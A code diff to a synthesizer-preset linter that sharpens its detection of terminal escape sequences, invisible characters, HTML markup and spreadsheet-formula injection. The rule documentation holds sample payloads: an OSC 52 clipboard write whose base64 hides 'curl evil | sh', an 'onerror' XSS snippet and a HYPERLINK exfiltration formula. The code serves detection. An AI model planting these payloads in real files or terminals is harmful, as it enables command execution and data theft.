@@ -22,9 +22,20 @@ from presetctl.engine.security.content import Scan, Text
 from presetctl.safe_text import excerpt
 
 _BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
-_ESCAPE = re.compile("[\x1b\x80-\x9f]")
+# Escape sequences a terminal acts on (ECMA-48 and the DEC/xterm extensions): CSI, OSC, DCS and the
+# SOS/PM/APC strings, character-set designations (G0-G3, 94- and 96-character sets), a coding-system
+# switch (ESC %, which can leave UTF-8), locking shifts, and the controls that rewrite the screen:
+# full reset, save/restore cursor, reverse index, DEC line attributes and screen alignment. The
+# 8-bit C1 forms of CSI, OSC, DCS, SOS, PM, APC and RI too.
+# A string sequence (OSC, DCS, SOS, PM, APC) runs to its terminator (BEL, ST `ESC \\` or C1 ST),
+# so the ESC of its ST is part of it.
+_ACTIVE = re.compile("(?:\x1b[\\]PX^_]|[\x9d\x90\x98\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\\\|\x9c)?"
+                     "|\x1b(?:\\[|[()*+\\-./][\x20-\x7e]|%[\x20-\x7e]|[no|}~c78M]|#[3-8])|[\x9b\x8d]")
+# ESC and the C1 controls: a lone one that starts none of the sequences above does nothing on a
+# terminal (a DX7 voice name `Roe<ESC>Bear`): an invisible character (X061), not an escape (X063).
+_LONE_CONTROL = re.compile("[\x1b\x80-\x9f]")
 _INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f"
-                        "\u2060-\u2064\u3164\ufeff\uffa0\U000e0000-\U000e007f]")
+                        "\u2060-\u2064\u3164\ufeff\uffa0\U000e0000-\U000e007f\x1b\x80-\x9f]")
 _MARKUP = re.compile(r"<\s*/?\s*(?:script|iframe|object|embed|svg|img|style|link|meta|form|base|frame|body)\b"
                      r"|<\s*a\s[^>]*href|javascript\s*:|vbscript\s*:|\bon(?:error|load|click|mouseover|focus|"
                      r"toggle|animationstart)\s*=", re.I)
@@ -57,9 +68,20 @@ def check_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violatio
                             "displays in a different order than it reads", t.location)
 
 
+def _in_sequences(text: str) -> set[int]:
+    """Positions of the ESC and C1 controls in ``text`` that belong to an active escape sequence
+    (X063's), so are not lone ones. (Other controls inside one, such as OSC's closing BEL, stay
+    invisible characters.)"""
+    if not _LONE_CONTROL.search(text):
+        return set()
+    return {i for m in _ACTIVE.finditer(text) for i in range(m.start(), m.end()) if _LONE_CONTROL.match(text, i)}
+
+
 def check_invisible(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
     for t in _owners(scan, _INVISIBLE):
-        found = [c for c in _INVISIBLE.findall(t.text) if not (c == "\ufeff" and t.text.startswith(c))]
+        taken = _in_sequences(t.text)
+        found = [m.group() for m in _INVISIBLE.finditer(t.text)
+                 if not (m.group() == "\ufeff" and m.start() == 0) and m.start() not in taken]
         if found:
             yield Violation(f"{_what(t)} {excerpt(t.text)} contains invisible characters ({_names(found)})",
                             t.location)
@@ -86,30 +108,34 @@ def check_homoglyph(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Vio
 
 
 def check_escape(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
-    for t in _owners(scan, _ESCAPE):
-        m = _ESCAPE.search(t.text)
+    for t in _owners(scan, _ACTIVE):
+        m = _ACTIVE.search(t.text)
         if m is None:
             continue
         yield Violation(f"{_what(t)} {excerpt(t.text)} contains {_escape_kind(t.text, m.start())}: printed on a "
                         "terminal it takes control of it", t.location)
 
 
+_C1 = {"\x9b": "a C1 CSI control (U+009B)", "\x9d": "a C1 OSC control (U+009D)", "\x90": "a C1 DCS control (U+0090)",
+       "\x98": "a C1 SOS control (U+0098)", "\x9e": "a C1 PM control (U+009E)", "\x9f": "a C1 APC control (U+009F)",
+       "\x8d": "a C1 reverse index (U+008D)"}
+_AFTER_ESC = (("]8;", "an OSC 8 escape (a hidden hyperlink)"), ("]52", "an OSC 52 escape (writes the clipboard)"),
+              ("]", "an OSC escape sequence (window title, colours, links)"),
+              ("[", "a CSI escape sequence (cursor, colour, erase)"),
+              (("P", "X", "^", "_"), "a DCS/SOS/PM/APC escape sequence"),
+              (("(", ")", "*", "+", "-", ".", "/"), "a character set switch (ESC ( and the like)"),
+              ("%", "a coding system switch (ESC %)"),
+              (("n", "o", "|", "}", "~"), "a locking shift to another character set"),
+              ("c", "a full terminal reset (ESC c)"),
+              (("7", "8", "M", "#"), "a cursor or screen control (save/restore cursor, reverse index, DEC line "
+                                      "attributes)"))
+
+
 def _escape_kind(text: str, i: int) -> str:
+    if text[i] != "\x1b":
+        return _C1[text[i]]
     nxt = text[i + 1 : i + 4]
-    if text[i] == "\x1b":
-        if nxt.startswith("]8;"):
-            return "an OSC 8 escape (a hidden hyperlink)"
-        if nxt.startswith("]52"):
-            return "an OSC 52 escape (writes the clipboard)"
-        if nxt.startswith("]"):
-            return "an OSC escape sequence (window title, colours, links)"
-        if nxt.startswith("["):
-            return "a CSI escape sequence (cursor, colour, erase)"
-        if nxt.startswith(("P", "_", "^")):
-            return "a DCS/APC/PM escape sequence"
-        return "an ESC control character"
-    return {"\x9b": "a C1 CSI control (U+009B)", "\x9d": "a C1 OSC control (U+009D)",
-            "\x90": "a C1 DCS control (U+0090)"}.get(text[i], f"a C1 control character (U+{ord(text[i]):04X})")
+    return next(what for start, what in _AFTER_ESC if nxt.startswith(start))
 
 
 def check_markup(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
@@ -144,7 +170,9 @@ RULES = (
                   check_bidi),
     security_rule("X061", "invisible-character", LOW, "Invisible or control characters in text",
                   RuleDoc("Reports zero-width characters, soft hyphens, Hangul fillers, tag characters, bidi marks, a "
-                          "byte order mark inside text, and C0 control characters other than tab and line breaks.",
+                          "byte order mark inside text, C0 control characters other than tab and line breaks, and a "
+                          "lone ESC or C1 control that starts no escape sequence a terminal acts on (a DX7 voice "
+                          "name `Roe\\x1bBear`: ESC followed by `B` does nothing; the sequences that do are X063).",
                           "Two names that look identical can differ by an invisible character: duplicate names, "
                           "spoofed authors, and search or sort behaving oddly.",
                           '`"name": "Lead\\u200b"`', "Remove the invisible characters."),
@@ -157,8 +185,13 @@ RULES = (
                           '`"author": "Аlice"` (Cyrillic A)', "Write the word in one script."),
                   check_homoglyph),
     security_rule("X063", "terminal-escape", HIGH, "Terminal escape sequences or C1 controls in text",
-                  RuleDoc("Reports ESC and C1 control characters (CSI, OSC 8 hyperlinks, OSC 52 clipboard writes, DCS) "
-                          "in any text, the file name and archive member names.",
+                  RuleDoc("Reports escape sequences a terminal acts on, in any text, the file name and archive member "
+                          "names: CSI (`ESC [`: cursor, colour, erase), OSC (`ESC ]`: OSC 8 hyperlinks, OSC 52 "
+                          "clipboard writes, window titles), DCS, SOS, PM and APC strings, character set switches "
+                          "(`ESC (`, `ESC )` ... and the locking shifts), a coding-system switch (`ESC %`), a full "
+                          "reset (`ESC c`), save/restore cursor, reverse index, DEC line attributes, and the 8-bit C1 "
+                          "forms of CSI, OSC, DCS, SOS, PM, APC and reverse index. A lone ESC or C1 control that starts "
+                          "none of these is X061 (low).",
                           "Printed by `cat`, `ls`, a log viewer or a careless tool, they rewrite the screen, hide text, "
                           "plant links, or write the clipboard (so the next paste runs a command).",
                           '`"preset_name": "Pad\\u001b]52;c;Y3VybCBldmlsIHwgc2gK\\u0007"`',
@@ -166,17 +199,19 @@ RULES = (
                   check_escape),
     security_rule("X064", "html-markup", LOW, "HTML or script markup in text",
                   RuleDoc("Reports `<script>`, `<iframe>`, `<img ... onerror=`, `javascript:` and similar markup in "
-                          "names, comments and other texts.",
+                          "names, comments and other texts." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
+                          "links, addresses and names are expected.",
                           "Harmless to the synth, but preset browsers, shop pages, forums and HTML reports that show "
                           "the text unescaped run it (stored XSS).",
                           '`"comments": "<img src=x onerror=alert(1)>"`', "Remove the markup."),
-                  check_markup),
+                  check_markup, on_docs=False),
     security_rule("X065", "spreadsheet-formula", LOW, "Text is a spreadsheet formula (CSV injection)",
                   RuleDoc("Reports texts that start with `=`, `+`, `-` or `@` followed by a function call or a DDE "
-                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`).",
+                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`)." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
+                          "links, addresses and names are expected.",
                           "Librarians export pack listings to CSV; a spreadsheet that opens the export runs the formula "
                           "(data exfiltration via HYPERLINK/WEBSERVICE, commands via DDE).",
                           '`"preset_name": "=HYPERLINK(\\"http://x/?\\"&A1,\\"Pad\\")"`',
                           "Rename the preset so it does not start with a formula character."),
-                  check_formula),
+                  check_formula, on_docs=False),
 )
